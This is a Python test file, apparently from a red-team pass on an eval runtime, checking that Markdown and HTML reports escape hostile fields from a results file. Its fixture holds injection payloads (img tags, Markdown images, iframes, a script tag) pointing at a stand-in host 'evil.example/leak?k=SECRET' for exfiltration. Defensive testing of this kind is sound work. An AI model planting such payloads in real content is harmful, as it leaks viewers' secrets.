"""Red-team pass on rlm eval's files (rt-a): a results file from someone else's run names
tasks, methods, families, models and answers; the report shows each as text, never as
markup a Markdown or HTML viewer acts on (a remote image that loads is an exfiltration)."""

from __future__ import annotations

import json
import re
from pathlib import Path

from rlm_runtime.eval.report import build_report

EXFIL = "https://evil.example/leak?k=SECRET"


def _hostile_run(folder: Path) -> None:
    folder.mkdir()
    record = {"task_id": f"t1 <img src='{EXFIL}'>", "method": f"rlm ![m]({EXFIL})", "family": "f <script>x</script>",
              "model": f"m [click]({EXFIL}) <iframe src={EXFIL}>", "score": 1, "correct": True, "input_tokens": 10,
              "answer": f"![alt]({EXFIL}) and <img src={EXFIL}> and [ref]: {EXFIL}", "gold": f"![g]({EXFIL})"}
    (folder / "results.jsonl").write_text(json.dumps(record) + "\n")


def test_the_markdown_report_shows_hostile_fields_as_text(tmp_path: Path) -> None:
    """It writes no image, link or raw HTML tag a results file's fields hold into report.md."""
    _hostile_run(tmp_path / "run")
    md = build_report(tmp_path / "run").markdown.read_text()
    markup = re.compile(r"(?<!\\)(<img|<script|<iframe|!\[(?!accuracy|tokens)|\]\(https)")
    assert not markup.search(md), markup.search(md)
    assert "evil.example" in md  # shown, as text


def test_the_html_report_shows_hostile_fields_as_text(tmp_path: Path) -> None:
    """It escapes every field of a hostile results line in report.html."""
    _hostile_run(tmp_path / "run")
    page = build_report(tmp_path / "run").html.read_text()
    assert "<img src=" not in page.replace("<img alt='", "") and "<script>" not in page and "<iframe" not in page
